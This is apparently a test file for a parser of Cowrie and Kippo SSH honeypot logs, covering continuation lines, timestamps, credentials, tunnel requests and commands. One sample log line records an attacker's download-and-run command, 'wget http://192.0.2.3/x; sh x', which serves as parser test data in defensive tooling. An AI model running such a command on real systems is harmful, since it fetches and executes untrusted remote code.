"""Twisted's lines: continuation by TAB, Kippo's blank between date and time, credentials with slashes and brackets."""

from collections.abc import Callable
from typing import Any

from honeyguide.formats.cowrie_text import FORMAT

EventsOf = Callable[..., list[dict[str, Any]]]

SYSTEM = "[SSHService 'ssh-userauth' on HoneyPotSSHTransport,25002,192.0.2.206]"


def test_lines_that_begin_with_a_tab_belong_to_the_record_before(events_of: EventsOf) -> None:
    data = f"2017-11-15T04:30:33+0000 {SYSTEM} Got remote error, code 3\n\treason: \n2017-11-15T04:30:34+0000 [-] ready\n"
    error, ready = events_of(FORMAT, data.encode())
    assert error["message"] == "Got remote error, code 3\n\treason: "
    assert (ready["message"], ready["log.logger"]) == ("ready", "-")


def test_what_kippo_wrote_is_understood_too(events_of: EventsOf) -> None:
    data = b"2018-03-11 13:54:54+0900 [HoneyPotTransport,61626,192.0.2.1] login attempt [a/b/c] failed\n"
    (event,) = events_of(FORMAT, data)
    assert event["@timestamp"].isoformat() == "2018-03-11T04:54:54+00:00"
    assert (event["user.name"], event["honeypot.credential.password"]) == ("a", ["b/c"])
    assert (event["source.ip"], event["honeypot.connection.id"]) == ("192.0.2.1", "61626")


def test_credentials_that_python_wrote_lose_their_quotes(events_of: EventsOf) -> None:
    (event,) = events_of(FORMAT, f"2022-01-01T00:00:00.000001Z {SYSTEM} login attempt [b'root'/b'1 2]'] succeeded\n".encode())
    assert (event["honeypot.credential.username"], event["honeypot.credential.password"]) == (["root"], ["1 2]"])


def test_tunnels_and_commands(events_of: EventsOf) -> None:
    data = (
        f"2017-11-15T05:47:11+0000 {SYSTEM} direct-tcp connection request to 2001:db8::e:80 from 192.0.2.26:8080\n"
        f"2017-11-15T05:47:12+0000 {SYSTEM} discarded direct-tcp forward request to example.org:80 with data 'GET /\\r\\n'\n"
        f"2017-11-15T05:47:13+0000 {SYSTEM} CMD: wget http://192.0.2.3/x; sh x\n"
    )
    tunnel, sent, command = events_of(FORMAT, data.encode())
    assert (tunnel["honeypot.tunnel.target.ip"], tunnel["honeypot.tunnel.target.port"]) == ("2001:db8::e", 80)
    assert (sent["honeypot.tunnel.target.domain"], sent["honeypot.payload.text"]) == ("example.org", "GET /\r\n")
    assert command["honeypot.command"] == ["wget http://192.0.2.3/x; sh x"]
